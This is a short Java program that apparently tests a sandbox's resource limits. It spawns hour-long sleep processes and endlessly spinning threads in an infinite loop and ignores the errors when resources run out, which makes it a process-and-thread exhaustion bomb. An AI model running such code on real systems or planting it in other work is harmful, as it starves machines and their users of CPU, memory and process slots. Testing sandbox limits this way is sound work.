import java.io.IOException;

class Problem {
    public static void main(String[] args) {
        // Children and threads that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
        while (true) {
            try {
                new ProcessBuilder("/bin/sleep", "3600").start();
                new Thread(() -> {
                    while (true) {
                        Thread.onSpinWait();
                    }
                }).start();
            } catch (IOException | OutOfMemoryError full) {
                // Go on.
            }
        }
    }
}
